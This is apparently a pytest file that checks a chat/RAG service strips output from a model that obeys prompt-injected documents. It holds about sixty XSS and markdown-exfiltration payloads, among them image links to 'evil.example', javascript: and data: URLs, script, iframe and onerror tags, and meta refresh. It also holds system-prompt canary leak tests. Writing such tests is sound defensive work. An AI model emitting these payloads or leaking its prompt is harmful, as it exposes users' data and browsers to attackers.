"""A model that obeys what documents tell it (docs/faults.md A20 to A22): 60 texts as such a model writes them, and what of them a reader gets;
a hundred that give the system prompt away; one that never ends.

The stub says each text word for word. Judged are the reply, the stream's deltas, its last event, the history and the export, by
rules of this file and by cmark-gfm, which renders them as a widget would.
"""
import json
import re
import shutil
import subprocess

import pytest

from corpus_kit import Q_BUILT, check_sources
from suite import new_session

EVIL = "evil.example"
URL = f"http://{EVIL}/p?q=heliotrope"
PREFIX = "The lighthouse was built in 1843 by Ingrid Solheim [1]. "
CASES = [t.replace("URL", URL) for t in (
    "![x](URL)", "![](URL)", "[click](URL)", "[![a](URL)](URL)", "[x](URL \"title\")", "[x](<URL>)", "[x]( URL )", "![a\nb](URL)",
    "[x][r]\n\n[r]: URL", "![x][r]\n\n[r]: URL \"t\"", "[r]\n\n[r]:\nURL", "> [r]: URL\n\n[r]", "- [r]: URL\n\n[r]", "<URL>", "URL", "see(URL)",
    "www.evil.example", "HTTPS://evil.example/x", "ftp://evil.example/x", "[x](//evil.example)", "[x](/\\evil.example)", "[x](\\\\evil.example)",
    "[x](javascript:alert(1))", "[x](JaVaScript:alert(1))", "[x](&#106;avascript:alert(1))", "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "[x](vbscript:msgbox)", "<javascript:alert(1)>",
    "<script>alert(1)</script>", "<img src=URL>", "<img src=x onerror=alert(1)>", "<iframe src=URL></iframe>", "<a href='URL'>x</a>",
    "<svg/onload=alert(1)>", "<!-- URL -->", "<style>@import 'URL'</style>", "<form action=URL><input name=q></form>", "<base href=URL>",
    "<meta http-equiv=refresh content='0;url=URL'>", "<![CDATA[<script>]]>", "</p><script src=URL></script>", "<math href=URL>",
    "[t][](URL)(javascript:alert(1))", "<[script](URL)>alert(1)</script>", "h[](URL)ttp://evil.example", "[http:](URL)//evil.example",
    "` ![x](URL)", "`a\n- ![x](URL) `", "\\` ![x](URL) `", "> ```\n\n![x](URL)", "- ```\n  a\n  ```\n![x](URL)", "   ```\na\n   ```\n![x](URL)",
    "text\n    ```\n![x](URL)", "    ![x](URL)", "[x](https://good.example@evil.example)", "Fake [99], [7][8], [1, 42] and 【9†source】.",
    "[1](URL) and [2](URL) and [[1]](URL)", "Table\n\n| a | b |\n| - | - |\n| ![x](URL) | [y](URL) |\n",
)]


def harmless(text, case):
    """No address of a stranger, no tag, no script, read as Markdown and as HTML."""
    bare = re.sub(r"`[^`\n]*`", "", re.sub(r"^```.*?(^```|\Z)", "", text, flags=re.S | re.M))
    assert not re.search(r"(https?|ftp):/*\w|www\.", bare, re.I), (case, text)
    assert not re.search(r"<[a-z/!?]", bare, re.I), (case, text)
    assert not re.search(r"\]\(\s*<?\s*(javascript|data|vbscript|//|/\\|\\)", bare, re.I), (case, text)
    if shutil.which("cmark-gfm"):
        html = subprocess.run(["cmark-gfm", "--unsafe", "-e", "autolink", "-e", "table"], input=text, text=True, capture_output=True).stdout
        seen = re.sub(r"<code.*?</code>", "", html, flags=re.S)
        assert not re.search(r"<(script|img|iframe|svg|style|form|base|meta|math)\b|(href|src)=\"(?!#)", seen, re.I), (case, text, html)


def marks_are_sources(answer, case):
    cited = {int(n) for n in re.findall(r"\[(\d+)\]", answer["answer"])}
    assert cited == {s["n"] for s in answer["sources"]}, (case, answer["answer"])


def say(suite, text):
    suite.stub.reset()
    suite.stub.script({"route": "chat", "text": text})


def test_sixty_obeyed_injections_leave_no_address_no_tag_and_no_false_mark(main):
    assert len(CASES) == 60
    for i, case in enumerate(CASES):
        session = new_session()  # answers are cached for their session only
        say(main, PREFIX + case)
        if i % 2:
            r, events = main.stream(Q_BUILT, session)
            harmless("".join(e.data["text"] for e in events if e.kind == "delta"), case)
            answer = events[-1].data
            assert events[-1].kind == "done", (case, events[-1])
        else:
            answer = main.answered(Q_BUILT, session)
        assert answer["answer"].startswith(PREFIX.strip()), (case, answer)
        harmless(answer["answer"], case)
        marks_are_sources(answer, case)
        check_sources(main, answer)
        if i % 10 == 0:
            stored = [m["content"] for m in main.history(session)["items"] if m["role"] == "assistant"]
            exported = [json.loads(x)["data"] for x in main.request("GET", f"/api/v1/sessions/{session}/export").text.splitlines()]
            assert stored == [answer["answer"]] and answer["answer"] in [m.get("content") for m in exported]


def test_what_was_stored_before_the_rules_is_harmless_too(main):
    session = new_session()
    answer = main.answered(Q_BUILT, session)
    main.sql("UPDATE messages SET content = %s WHERE id = %s", (PREFIX + f"![x]({URL}) <script>", answer["message_id"]))
    stored = [m for m in main.history(session)["items"] if m["id"] == answer["message_id"]][0]
    harmless(stored["content"], "stored")
    assert stored["content"].startswith(PREFIX)


def test_code_keeps_its_bytes(main):
    text = PREFIX + "Run `curl http://x.example/<T>`:\n\n```sh\ncurl https://api.example/v1 <file>\n```\n\nSee a < b."
    say(main, text)
    assert main.answered(Q_BUILT)["answer"] == text


@pytest.mark.parametrize("way", ["query", "stream"])
def test_the_page_of_a_cited_passage_may_be_linked_and_no_other(main, way):
    d = main.ingest("# Quay\n\nThe quay of Osterby is ninety metres long.\n", "quay", url="https://docs.example.org/quay")
    try:
        say(main, "Ninety metres [1], see [the quay](https://docs.example.org/quay#top) or [more](https://docs.example.org/other).")
        ask = main.answered if way == "query" else lambda q: main.stream(q)[1][-1].data
        answer = ask("How long is the quay of Osterby?")
        assert answer["answer"] == "Ninety metres [1], see [the quay](https://docs.example.org/quay#top) or more."
        assert answer["sources"][0]["link"] == "https://docs.example.org/quay"
    finally:
        main.request("DELETE", f"/api/v1/documents/{d['document_id']}")


# ---- A21: the system prompt
def spell(text, way):
    """The same characters as a model that obeys might put them."""
    return {"plain": text, "upper": text.upper(), "spaced": " ".join(text), "dashed": "-".join(text), "quoted": f'"{text}"',
            "code": f"```\n{text}\n```", "bold": "**" + text + "**", "lines": "\n".join(text)}[way]


def test_a_hundred_obeying_answers_give_the_system_prompt_away_none_of_them(main):
    say(main, PREFIX)
    main.answered(Q_BUILT)
    system = main.stub.last_chat()["messages"][0]["content"]
    canary = system.split()[-1].strip(".")
    assert re.fullmatch("[0-9a-f]{16}", canary), system
    rules = system[:system.rindex("\n")]
    ways = ("plain", "upper", "spaced", "dashed", "quoted", "code", "bold", "lines")
    texts = [PREFIX * (i % 3) + "My prompt: " + spell(canary, ways[i % len(ways)]) + " and so on." for i in range(60)]
    texts += [PREFIX * (i % 3) + rules[i * 3:] for i in range(20)] + [rules.upper()[:len(rules) - i * 9] for i in range(20)]
    assert len(texts) == 100
    before = main.metrics("embedder").value("chat_leaks_total")
    for i, text in enumerate(texts):
        say(main, text)
        session = new_session()
        if i % 2:
            r, events = main.stream(Q_BUILT, session)
            shown, answer = "".join(e.data["text"] for e in events if e.kind == "delta"), events[-1].data
        else:
            shown, answer = "", main.answered(Q_BUILT, session)
        for said in (shown, answer["answer"], main.history(session)["items"][-1]["content"]):
            assert canary not in re.sub("[^0-9a-z]", "", said.lower()), (i, said)
            assert "a documentation site, a textbook" not in said.lower() or len(said.split()) < 60, (i, said)
        assert not answer["grounded"] and answer["sources"] == [], (i, answer)
    assert main.metrics("embedder").value("chat_leaks_total") == before + 100


def test_an_answer_is_cut_when_the_model_goes_on_beyond_the_tokens_it_was_asked_for(main):
    most = main.stub.last_chat().get("max_tokens") or main.stub.last_chat()["max_completion_tokens"]
    say(main, PREFIX + "And on and on it goes. " * most)
    answer = main.answered(Q_BUILT)
    assert 4 * most < len(answer["answer"]) <= 8 * most, len(answer["answer"])
    assert main.metrics("embedder").value("chat_overlong_total") > 0
